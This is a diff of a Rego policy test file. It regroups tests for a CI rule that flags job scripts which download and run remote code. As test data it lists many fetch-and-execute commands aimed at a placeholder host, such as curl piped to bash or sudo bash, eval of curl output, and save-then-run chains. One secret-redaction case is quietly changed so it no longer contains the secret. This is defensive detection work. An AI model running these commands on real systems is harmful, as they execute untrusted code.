@@ -44,114 +44,38 @@ test_allow_pipe_to_filter if {
 }
 
 test_deny_pipe_of_any_form if {
-	every line in [
-		"curl \"https://x/?a=1&b=2\" | bash",
-		"wget -qO- \"https://x/?a=1&b=2;c\" | sh",
-		"curl https://x |\nbash",
-		"curl https://x | # then\n  bash",
-		"curl https://x | tee a | bash",
-		"wget -O- https://x | gunzip | tee a | zsh",
-		"curl https://x |& bash",
-		"curl https://x 2>&1 | bash",
-		"curl https://x | /usr/local/bin/bash",
-		"curl https://x | exec bash",
-		"curl https://x | timeout 9 bash",
-		"curl https://x | timeout -k 5 9s bash",
-		"curl https://x | sudo -E bash -",
-		"curl https://x | sudo -u deploy bash",
-		"curl https://x | env -i A=1 dash",
-		"curl https://x | A=1 ksh",
-		"curl https://x | bash -s -- --yes",
-		"curl https://x | bash -ex",
-		"curl https://x | (bash)",
-		"curl https://x | \"bash\"",
-		"curl https://x | tee >(bash)",
-		"curl https://x | python -",
-		"curl https://x | perl",
-		"curl https://x | ruby",
-		"curl https://x | node -",
-		"curl https://x | source /dev/stdin",
-		"ssh host \"curl https://x\" | bash",
-		"curl https://x | sh -c \"$(cat)\"",
-		"curl https://x | python3 -c \"import sys; exec(sys.stdin.read())\"",
-	] {
-		count(rule.violations) == 1 with input as t.jobs({"build": {"script": [line]}})
-	}
+	count(rule.violations) == 13 with input as t.jobs({"j0": {"script": ["curl \"https://x/?a=1&b=2\" | bash"]}, "j1": {"script": ["wget -qO- \"https://x/?a=1&b=2;c\" | sh"]}, "j2": {"script": ["curl https://x |\nbash"]}, "j3": {"script": ["curl https://x | # then\n  bash"]}, "j4": {"script": ["curl https://x | tee a | bash"]}, "j5": {"script": ["wget -O- https://x | gunzip | tee a | zsh"]}, "j6": {"script": ["curl https://x |& bash"]}, "j7": {"script": ["curl https://x 2>&1 | bash"]}, "j8": {"script": ["curl https://x | /usr/local/bin/bash"]}, "j9": {"script": ["curl https://x | exec bash"]}, "j10": {"script": ["curl https://x | timeout 9 bash"]}, "j11": {"script": ["curl https://x | timeout -k 5 9s bash"]}, "j12": {"script": ["curl https://x | sudo -E bash -"]}})
+}
+
+test_deny_pipe_of_any_form_2 if {
+	count(rule.violations) == 14 with input as t.jobs({"j13": {"script": ["curl https://x | sudo -u deploy bash"]}, "j14": {"script": ["curl https://x | env -i A=1 dash"]}, "j15": {"script": ["curl https://x | A=1 ksh"]}, "j16": {"script": ["curl https://x | bash -s -- --yes"]}, "j17": {"script": ["curl https://x | bash -ex"]}, "j18": {"script": ["curl https://x | (bash)"]}, "j19": {"script": ["curl https://x | \"bash\""]}, "j20": {"script": ["curl https://x | tee >(bash)"]}, "j21": {"script": ["curl https://x | python -"]}, "j22": {"script": ["curl https://x | perl"]}, "j23": {"script": ["curl https://x | ruby"]}, "j24": {"script": ["curl https://x | node -"]}, "j25": {"script": ["curl https://x | source /dev/stdin"]}, "j26": {"script": ["ssh host \"curl https://x\" | bash"]}})
+}
+
+test_deny_pipe_of_any_form_3 if {
+	count(rule.violations) == 2 with input as t.jobs({"j27": {"script": ["curl https://x | sh -c \"$(cat)\""]}, "j28": {"script": ["curl https://x | python3 -c \"import sys; exec(sys.stdin.read())\""]}})
 }
 
 test_deny_substitution_of_any_form if {
-	every line in [
-		"bash <<< \"$(curl https://x)\"",
-		"python3 -c \"$(curl https://x)\"",
-		"python3 -c \"$(wget -qO- https://x)\"",
-		"perl -e \"$(curl https://x)\"",
-		"ruby -e \"$(curl https://x)\"",
-		"node -e \"$(curl https://x)\"",
-		"bash <(curl https://x)",
-		"zsh <(wget -qO- https://x)",
-		"bash < <(curl https://x)",
-		"ksh -c \"$(/usr/bin/curl https://x)\"",
-		"dash -c \"`curl https://x`\"",
-		"eval \"$(curl https://x)\"",
-		"source <(curl https://x)",
-		". <(wget -qO- https://x)",
-	] {
-		count(rule.violations) == 1 with input as t.jobs({"build": {"script": [line]}})
-	}
+	count(rule.violations) == 14 with input as t.jobs({"j0": {"script": ["bash <<< \"$(curl https://x)\""]}, "j1": {"script": ["python3 -c \"$(curl https://x)\""]}, "j2": {"script": ["python3 -c \"$(wget -qO- https://x)\""]}, "j3": {"script": ["perl -e \"$(curl https://x)\""]}, "j4": {"script": ["ruby -e \"$(curl https://x)\""]}, "j5": {"script": ["node -e \"$(curl https://x)\""]}, "j6": {"script": ["bash <(curl https://x)"]}, "j7": {"script": ["zsh <(wget -qO- https://x)"]}, "j8": {"script": ["bash < <(curl https://x)"]}, "j9": {"script": ["ksh -c \"$(/usr/bin/curl https://x)\""]}, "j10": {"script": ["dash -c \"`curl https://x`\""]}, "j11": {"script": ["eval \"$(curl https://x)\""]}, "j12": {"script": ["source <(curl https://x)"]}, "j13": {"script": [". <(wget -qO- https://x)"]}})
 }
 
 test_deny_saved_and_run if {
-	every line in [
-		"curl -o a https://x && bash a",
-		"curl -fsSLo a https://x; sh ./a",
-		"curl https://x > a && bash a",
-		"curl --output=a https://x && python3 a",
-		"wget -O a https://x && chmod +x a && ./a",
-		"wget https://x/install.sh && sudo bash install.sh",
-		"curl -O https://x/i.sh && . ./i.sh",
-		"curl -o /tmp/a \"https://x/?a=1&b=2\" && /tmp/a",
-	] {
-		count(rule.violations) == 1 with input as t.jobs({"build": {"script": [line]}})
-	}
+	count(rule.violations) == 8 with input as t.jobs({"j0": {"script": ["curl -o a https://x && bash a"]}, "j1": {"script": ["curl -fsSLo a https://x; sh ./a"]}, "j2": {"script": ["curl https://x > a && bash a"]}, "j3": {"script": ["curl --output=a https://x && python3 a"]}, "j4": {"script": ["wget -O a https://x && chmod +x a && ./a"]}, "j5": {"script": ["wget https://x/install.sh && sudo bash install.sh"]}, "j6": {"script": ["curl -O https://x/i.sh && . ./i.sh"]}, "j7": {"script": ["curl -o /tmp/a \"https://x/?a=1&b=2\" && /tmp/a"]}})
 }
 
 test_allow_near_misses if {
-	every line in [
-		"curl -fsS https://x/health",
-		"curl https://x -o a.tgz && tar xf a.tgz",
-		"curl https://x | jq .",
-		"bash scripts/deploy.sh",
-		"curl -f x; bash scripts/next.sh",
-		"curl -f https://x || bash scripts/rollback.sh",
-		"curl -f https://x && bash scripts/next.sh",
-		"curl -s https://x | python3 -m json.tool",
-		"curl -s https://x | python3 -c \"import json, sys; print(json.load(sys.stdin))\"",
-		"curl -s https://x | bash scripts/read.sh",
-		"curl -s https://x | grep bash",
-		"curl -s https://x | sudo tee /etc/bash",
-		"bash deploy.sh \"$(curl -s https://x/version)\"",
-		"curl -o a.json https://x && python3 scripts/read.py a.json",
-		"curl -o a https://x && sha256sum -c a.sha256 && bash a",
-		"version=$(curl -s https://x) && bash scripts/deploy.sh",
-	] {
-		count(rule.violations) == 0 with input as t.jobs({"build": {"script": [line]}})
-	}
+	count(rule.violations) == 0 with input as t.jobs({"j0": {"script": ["curl -fsS https://x/health"]}, "j1": {"script": ["curl https://x -o a.tgz && tar xf a.tgz"]}, "j2": {"script": ["curl https://x | jq ."]}, "j3": {"script": ["bash scripts/deploy.sh"]}, "j4": {"script": ["curl -f x; bash scripts/next.sh"]}, "j5": {"script": ["curl -f https://x || bash scripts/rollback.sh"]}, "j6": {"script": ["curl -f https://x && bash scripts/next.sh"]}, "j7": {"script": ["curl -s https://x | python3 -m json.tool"]}, "j8": {"script": ["curl -s https://x | python3 -c \"import json, sys; print(json.load(sys.stdin))\""]}, "j9": {"script": ["curl -s https://x | bash scripts/read.sh"]}, "j10": {"script": ["curl -s https://x | grep bash"]}, "j11": {"script": ["curl -s https://x | sudo tee /etc/bash"]}})
+}
+
+test_allow_near_misses_2 if {
+	count(rule.violations) == 0 with input as t.jobs({"j12": {"script": ["bash deploy.sh \"$(curl -s https://x/version)\""]}, "j13": {"script": ["curl -o a.json https://x && python3 scripts/read.py a.json"]}, "j14": {"script": ["curl -o a https://x && sha256sum -c a.sha256 && bash a"]}, "j15": {"script": ["version=$(curl -s https://x) && bash scripts/deploy.sh"]}})
 }
 
 test_deny_and_quote_no_secret if {
-	every line in [
-		"curl -H \"X-Key: kingfisher-7\" https://x | bash",
-		"curl -sSLH \"X-Key: kingfisher-7\" https://x | bash",
-		"curl --header \"X-Key: kingfisher-7\" https://x | bash",
-		"curl --user me:kingfisher-7 https://x | bash",
-		"curl https://me:kingfisher-7@x | bash",
-		"curl \"https://x/?k=kingfisher-7\" | bash",
-		"DB_PASSWORD=kingfisher-7 curl https://x | bash",
-		"curl https://x/TOKEN/kingfisher-7 | bash",
-	] {
-		messages := [one.message | some one in rule.violations] with input as t.jobs({"build": {"script": [line]}})
-		count(messages) == 1
-		not contains(messages[0], "kingfisher")
+	found := rule.violations with input as t.jobs({"j0": {"script": ["curl -H \"X-Key: kingfisher-7\" https://x | bash"]}, "j1": {"script": ["curl -sSLH \"X-Key: kingfisher-7\" https://x | bash"]}, "j2": {"script": ["curl --header \"X-Key: kingfisher-7\" https://x | bash"]}, "j3": {"script": ["curl --user me:kingfisher-7 https://x | bash"]}, "j4": {"script": ["curl https://me:example@x | bash"]}, "j5": {"script": ["curl \"https://x/?k=kingfisher-7\" | bash"]}, "j6": {"script": ["DB_PASSWORD=kingfisher-7 curl https://x | bash"]}, "j7": {"script": ["curl https://x/TOKEN/kingfisher-7 | bash"]}})
+	count(found) == 8
+	every one in found {
+		not contains(one.message, "kingfisher")
 	}
 }
 
